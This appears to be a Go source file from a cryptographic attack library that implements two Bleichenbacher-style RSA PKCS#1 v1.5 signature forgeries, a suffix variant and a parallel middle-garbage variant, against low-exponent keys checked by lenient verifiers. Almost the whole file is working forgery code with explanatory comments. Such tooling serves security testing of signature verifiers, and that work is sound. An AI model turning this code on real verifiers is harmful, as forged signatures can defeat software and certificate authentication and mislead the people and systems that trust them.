package rsaattacks

import (
	"bytes"
	"fmt"
	"math/big"
	"sync"

	"golang.org/x/sync/errgroup"

	"github.com/pwnedkeys/cryptoattacks/cabytes"
	"github.com/pwnedkeys/cryptoattacks/caerr"
	"github.com/pwnedkeys/cryptoattacks/cadigest"
	"github.com/pwnedkeys/cryptoattacks/camath"
	"github.com/pwnedkeys/cryptoattacks/rsakey"
)

// defaultDeltaRange bounds the search in BleichenbacherSuffix when the
// caller doesn't override it. Whether it's always sufficient for arbitrary
// key sizes is unproven; callers working with unusual key sizes should pass
// their own.
const defaultDeltaRange = 5

// BleichenbacherSuffix forges an RSA-PKCS#1-v1.5 signature over a low public
// exponent key that a verifier only checks "loosely" — i.e. one that
// recovers the message's DigestInfo at the start of the padded block but
// tolerates trailing garbage. It builds the ideal prefix block
// 00 01 FF 00 ASN1(id) H, takes its floor e-th root, and searches a small
// window around that root for an s whose s^e mod n begins with the prefix.
func BleichenbacherSuffix(k *rsakey.Key, id cadigest.HashID, hash []byte, deltaRange int) (*big.Int, error) {
	if deltaRange <= 0 {
		deltaRange = defaultDeltaRange
	}

	digestInfo, err := cadigest.DigestInfo(id, hash)
	if err != nil {
		return nil, err
	}

	size := k.Size / 8
	const prefixHeader = 4 // 00 01 FF 00
	prefix := make([]byte, prefixHeader+len(digestInfo))
	prefix[0], prefix[1], prefix[2], prefix[3] = 0x00, 0x01, 0xFF, 0x00
	copy(prefix[prefixHeader:], digestInfo)

	if size < len(prefix) {
		return nil, fmt.Errorf("%w: key too small for a %s signature block", caerr.ErrInvalidArgument, id)
	}

	block := make([]byte, size)
	copy(block, prefix)

	eInt := int(k.E.Int64())
	root, _ := camath.IRoot(new(big.Int).SetBytes(block), eInt)

	for delta := -deltaRange; delta <= deltaRange; delta++ {
		s := new(big.Int).Add(root, big.NewInt(int64(delta)))
		if s.Sign() <= 0 {
			continue
		}

		check := camath.PowMod(s, k.E, k.N)
		encoded, err := cabytes.I2B(check, k.Size)
		if err != nil {
			continue
		}

		if bytes.HasPrefix(encoded, prefix) {
			return s, nil
		}
	}

	return nil, fmt.Errorf("%w: suffix bleichenbacher exhausted delta range [-%d, %d]", caerr.ErrAttackFailed, deltaRange, deltaRange)
}

// middleWorkers is the degree of parallelism used to search for a
// BleichenbacherMiddle forgery; each worker tries an independent random
// prefix, so the search is embarrassingly parallel.
const middleWorkers = 8

// BleichenbacherMiddle forges a signature against a verifier that tolerates
// garbage between the FF padding and the DigestInfo/hash suffix, rather than
// only after it. It first solves for an odd suffix root s_suffix such that
// s_suffix^e agrees with the target suffix bits in the low |suffix| bytes
// (built one bit at a time from the LSB), then searches random
// "00 01 FF <random>" prefixes, taking each candidate's high-order e-th root
// bytes and checking whether raising the concatenated signature to e mod n
// reproduces the prefix, an all-nonzero middle region, and the suffix.
func BleichenbacherMiddle(k *rsakey.Key, id cadigest.HashID, hash []byte, maxAttemptsPerWorker int) (*big.Int, error) {
	digestInfo, err := cadigest.DigestInfo(id, hash)
	if err != nil {
		return nil, err
	}
	if maxAttemptsPerWorker <= 0 {
		maxAttemptsPerWorker = 512
	}

	suffix := append([]byte{0x00}, digestInfo...)
	suffixInt := new(big.Int).SetBytes(suffix)
	if suffixInt.Bit(0) == 0 {
		return nil, fmt.Errorf("%w: suffix integer must be odd to admit an e-th root mod 2^n", caerr.ErrInvalidArgument)
	}

	suffixBits := len(suffix) * 8
	mod := new(big.Int).Lsh(big.NewInt(1), uint(suffixBits))

	sSuffix := big.NewInt(1)
	for bit := 1; bit < suffixBits; bit++ {
		candidate := new(big.Int).Exp(sSuffix, k.E, mod)
		xored := new(big.Int).Xor(candidate, suffixInt)
		if xored.Bit(bit) == 1 {
			sSuffix.SetBit(sSuffix, bit, 1)
		}
	}

	sSuffixBytes, err := cabytes.I2B(sSuffix, suffixBits)
	if err != nil {
		return nil, fmt.Errorf("bleichenbacher middle: %w", err)
	}

	size := k.Size / 8
	prefixLen := size - len(sSuffixBytes)
	if prefixLen < 3 {
		return nil, fmt.Errorf("%w: key too small for a %s middle-variant forgery", caerr.ErrInvalidArgument, id)
	}

	var (
		mu       sync.Mutex
		found    *big.Int
		errG     errgroup.Group
		eInt     = int(k.E.Int64())
		randomSz = uint(prefixLen - 3)
	)

	for w := 0; w < middleWorkers; w++ {
		errG.Go(func() error {
			for attempt := 0; attempt < maxAttemptsPerWorker; attempt++ {
				mu.Lock()
				already := found != nil
				mu.Unlock()
				if already {
					return nil
				}

				s, ok, err := tryMiddleCandidate(k, eInt, prefixLen, randomSz, suffix, sSuffixBytes, size)
				if err != nil {
					return err
				}
				if ok {
					mu.Lock()
					if found == nil {
						found = s
					}
					mu.Unlock()
					return nil
				}
			}
			return nil
		})
	}

	if err := errG.Wait(); err != nil {
		return nil, fmt.Errorf("bleichenbacher middle: %w", err)
	}
	if found == nil {
		return nil, fmt.Errorf(
			"%w: middle bleichenbacher exhausted %d attempts across %d workers",
			caerr.ErrAttackFailed, maxAttemptsPerWorker, middleWorkers,
		)
	}

	return found, nil
}

func tryMiddleCandidate(k *rsakey.Key, e, prefixLen int, randomSz uint, suffix, sSuffixBytes []byte, size int) (*big.Int, bool, error) {
	randomPart, err := cabytes.Random(randomSz, randomSz)
	if err != nil {
		return nil, false, fmt.Errorf("sampling random prefix bytes: %w", err)
	}

	prefix := make([]byte, prefixLen)
	prefix[0], prefix[1], prefix[2] = 0x00, 0x01, 0xFF
	copy(prefix[3:], randomPart)

	suffixBits := uint(len(sSuffixBytes) * 8)
	shifted := new(big.Int).Lsh(new(big.Int).SetBytes(prefix), suffixBits)
	root, _ := camath.IRoot(shifted, e)

	// Keep the root's high-order bytes and replace its low len(suffix)
	// bytes with the suffix root.
	s := new(big.Int).Rsh(root, suffixBits)
	s.Lsh(s, suffixBits)
	s.Or(s, new(big.Int).SetBytes(sSuffixBytes))

	check := camath.PowMod(s, k.E, k.N)
	encoded, err := cabytes.I2B(check, k.Size)
	if err != nil {
		return nil, false, nil
	}

	if !bytes.HasPrefix(encoded, prefix[:3]) {
		return nil, false, nil
	}
	if !bytes.HasSuffix(encoded, suffix) {
		return nil, false, nil
	}

	middle := encoded[3 : size-len(sSuffixBytes)]
	if bytes.IndexByte(middle, 0x00) >= 0 {
		return nil, false, nil
	}

	return s, true, nil
}
